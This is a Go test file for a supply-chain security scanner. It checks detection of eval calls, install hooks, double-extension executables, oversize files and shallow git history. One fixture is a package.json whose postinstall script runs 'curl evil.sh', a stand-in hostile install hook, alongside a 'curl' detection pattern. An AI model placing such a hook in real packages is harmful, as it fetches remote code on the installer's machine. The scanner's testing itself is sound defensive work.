// Copyright 2025 KrakLabs
//
// SPDX-License-Identifier: AGPL-3.0-or-later

package scanner

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/kraklabs/sigil/pkg/model"
	"github.com/kraklabs/sigil/pkg/signatures"
	"github.com/kraklabs/sigil/pkg/walker"
)

func mustStore(t *testing.T, sigs []*signatures.Signature) *signatures.Store {
	t.Helper()
	store, err := signatures.LoadBuiltin()
	require.NoError(t, err)
	if len(sigs) > 0 {
		require.NoError(t, store.Merge(sigs))
	}
	return store
}

func TestScan_FindsMatchInEligibleFile(t *testing.T) {
	store := mustStore(t, []*signatures.Signature{
		{ID: "t-eval", Phase: signatures.PhaseCodePatterns, Severity: signatures.SeverityHigh, Weight: 5, Pattern: `eval\(`, Description: "dynamic eval call"},
	})

	files := []walker.File{
		{RelPath: "a.js", Bytes: []byte("function f() {\n  eval(userInput);\n}\n"), LanguageHint: "javascript"},
	}

	res := Scan(files, store, Options{Workers: 2}, nil)
	found := false
	for _, f := range res.Findings {
		if f.RuleID == "t-eval" {
			found = true
			assert.Equal(t, "a.js", f.File)
			assert.Equal(t, 2, f.Line)
		}
	}
	assert.True(t, found)
}

func TestScan_InstallHooksOnlyAppliesToManifestPaths(t *testing.T) {
	store := mustStore(t, []*signatures.Signature{
		{ID: "t-ih", Phase: signatures.PhaseInstallHooks, Severity: signatures.SeverityHigh, Weight: 8, Pattern: `curl`, Description: "fetches a remote script"},
	})

	files := []walker.File{
		{RelPath: "package.json", Bytes: []byte(`{"scripts":{"postinstall":"curl evil.sh"}}`), LanguageHint: "json"},
		{RelPath: "notes.txt", Bytes: []byte("curl is mentioned here but this isn't a manifest"), LanguageHint: ""},
	}

	res := Scan(files, store, Options{Workers: 1}, nil)
	for _, f := range res.Findings {
		if f.RuleID == "t-ih" {
			assert.Equal(t, "package.json", f.File)
		}
	}
}

func TestScan_BinaryFilesSkipNonInstallHooksPhases(t *testing.T) {
	store := mustStore(t, []*signatures.Signature{
		{ID: "t-bin", Phase: signatures.PhaseCodePatterns, Severity: signatures.SeverityHigh, Weight: 5, Pattern: `eval`, Description: "d"},
	})
	files := []walker.File{
		{RelPath: "blob.bin", Bytes: []byte("eval"), Binary: true},
	}
	res := Scan(files, store, Options{Workers: 1}, nil)
	for _, f := range res.Findings {
		assert.NotEqual(t, "t-bin", f.RuleID)
	}
}

func TestScan_DeterministicOrdering(t *testing.T) {
	store := mustStore(t, []*signatures.Signature{
		{ID: "t-a", Phase: signatures.PhaseCodePatterns, Severity: signatures.SeverityHigh, Weight: 5, Pattern: `foo`, Description: "d"},
		{ID: "t-b", Phase: signatures.PhaseCredentials, Severity: signatures.SeverityMedium, Weight: 2, Pattern: `bar`, Description: "d"},
	})

	files := []walker.File{
		{RelPath: "z.py", Bytes: []byte("foo bar"), LanguageHint: "python"},
		{RelPath: "a.py", Bytes: []byte("foo bar"), LanguageHint: "python"},
	}

	var results []*Result
	for i := 0; i < 5; i++ {
		results = append(results, Scan(files, store, Options{Workers: 4}, nil))
	}
	for i := 1; i < len(results); i++ {
		require.Equal(t, len(results[0].Findings), len(results[i].Findings))
		for j := range results[0].Findings {
			assert.Equal(t, results[0].Findings[j], results[i].Findings[j])
		}
	}
}

func TestSortFindings_OrdersByPhaseSeverityFileLine(t *testing.T) {
	findings := []model.Finding{
		{Phase: signatures.PhaseCredentials, Severity: signatures.SeverityLow, File: "b.go", Line: 1},
		{Phase: signatures.PhaseInstallHooks, Severity: signatures.SeverityLow, File: "a.go", Line: 5},
		{Phase: signatures.PhaseInstallHooks, Severity: signatures.SeverityCritical, File: "z.go", Line: 1},
		{Phase: signatures.PhaseInstallHooks, Severity: signatures.SeverityCritical, File: "a.go", Line: 2},
	}
	SortFindings(findings)

	assert.Equal(t, signatures.PhaseInstallHooks, findings[0].Phase)
	assert.Equal(t, signatures.SeverityCritical, findings[0].Severity)
	assert.Equal(t, "a.go", findings[0].File)
	assert.Equal(t, signatures.PhaseCredentials, findings[len(findings)-1].Phase)
}

func TestSortFindings_TiesOnPhaseSeverityFileLineBreakByRuleID(t *testing.T) {
	a := model.Finding{Phase: signatures.PhaseCodePatterns, Severity: signatures.SeverityHigh, File: "install.js", Line: 12, RuleID: "cp-js-function-ctor"}
	b := model.Finding{Phase: signatures.PhaseCodePatterns, Severity: signatures.SeverityHigh, File: "install.js", Line: 12, RuleID: "cp-js-eval"}

	findings := []model.Finding{a, b}
	SortFindings(findings)
	assert.Equal(t, "cp-js-eval", findings[0].RuleID)
	assert.Equal(t, "cp-js-function-ctor", findings[1].RuleID)

	reversed := []model.Finding{b, a}
	SortFindings(reversed)
	assert.Equal(t, findings, reversed, "order must not depend on input order once every key ties but rule id")
}

func TestScan_BuiltinStoreOnSafeContentIsNotTruncated(t *testing.T) {
	store := mustStore(t, nil)
	sig, ok := store.Get("ih-npm-postinstall")
	require.True(t, ok)
	_ = sig

	files := []walker.File{
		{RelPath: "a.py", Bytes: []byte("safe content"), LanguageHint: "python"},
	}
	res := Scan(files, store, Options{Workers: 1}, nil)
	assert.False(t, res.Truncated)
}

func TestScan_ProgressCallbackInvokedPerFile(t *testing.T) {
	store := mustStore(t, nil)
	files := []walker.File{
		{RelPath: "a.py", Bytes: []byte("x"), LanguageHint: "python"},
		{RelPath: "b.py", Bytes: []byte("y"), LanguageHint: "python"},
	}

	var calls int32
	Scan(files, store, Options{Workers: 2, OnProgress: func(current, total int64, phase string) {
		calls++
		assert.Equal(t, int64(2), total)
	}}, nil)
	assert.EqualValues(t, 2, calls)
}

func TestExtractSnippet_CapsLengthAndStripsControl(t *testing.T) {
	content := []byte("prefix \x01\x02hello world\x03 suffix")
	snippet := extractSnippet(content, 7, 8, 5)
	assert.LessOrEqual(t, len(snippet), 5)
}

func TestPhaseApplies_InstallHooksRestrictedToManifests(t *testing.T) {
	assert.True(t, phaseApplies(signatures.PhaseInstallHooks, "package.json", false))
	assert.False(t, phaseApplies(signatures.PhaseInstallHooks, "index.js", false))
	assert.False(t, phaseApplies(signatures.PhaseProvenance, "anything", false))
	assert.True(t, phaseApplies(signatures.PhaseCodePatterns, "main.go", false))
	assert.False(t, phaseApplies(signatures.PhaseCodePatterns, "main.go", true))
}

func TestHasDoubleExtension_DetectsDisguisedExecutable(t *testing.T) {
	assert.True(t, hasDoubleExtension("invoice.pdf.exe"))
	assert.False(t, hasDoubleExtension("archive.tar.gz"))
	assert.False(t, hasDoubleExtension("main.go"))
}

func TestProvenanceFindings_AtMostOnePerRule(t *testing.T) {
	files := []walker.File{
		{RelPath: "a.bin", Binary: true},
		{RelPath: "b.bin", Binary: true},
		{RelPath: ".ssh", Binary: false},
	}
	findings := provenanceFindings(files, "", nil)

	counts := map[string]int{}
	for _, f := range findings {
		counts[f.RuleID]++
	}
	for id, n := range counts {
		assert.Equal(t, 1, n, "rule %s fired more than once", id)
	}
}

func TestProvenanceFindings_OversizeFilesSurfacedAsFinding(t *testing.T) {
	findings := provenanceFindings(nil, "", []string{"vendor/blob.bin", "vendor/blob2.bin"})
	require.Len(t, findings, 1)
	assert.Equal(t, "pr-oversize-file", findings[0].RuleID)
	assert.Equal(t, signatures.PhaseProvenance, findings[0].Phase)
	assert.Equal(t, "vendor/blob.bin", findings[0].File)
}

func TestProvenanceFindings_NoOversizeFilesNoFinding(t *testing.T) {
	findings := provenanceFindings(nil, "", nil)
	for _, f := range findings {
		assert.NotEqual(t, "pr-oversize-file", f.RuleID)
	}
}

func TestShallowHistory_DetectsGitShallowMarker(t *testing.T) {
	dir := t.TempDir()
	assert.False(t, shallowHistory(dir))

	require.NoError(t, os.MkdirAll(filepath.Join(dir, ".git"), 0750))
	require.NoError(t, os.WriteFile(filepath.Join(dir, ".git", "shallow"), []byte("abc123\n"), 0600))
	assert.True(t, shallowHistory(dir))
}

func TestProvenanceFindings_ShallowHistorySurfacedWhenRootGiven(t *testing.T) {
	dir := t.TempDir()
	require.NoError(t, os.MkdirAll(filepath.Join(dir, ".git"), 0750))
	require.NoError(t, os.WriteFile(filepath.Join(dir, ".git", "shallow"), []byte("abc123\n"), 0600))

	findings := provenanceFindings(nil, dir, nil)
	require.Len(t, findings, 1)
	assert.Equal(t, "pr-shallow-history", findings[0].RuleID)
}
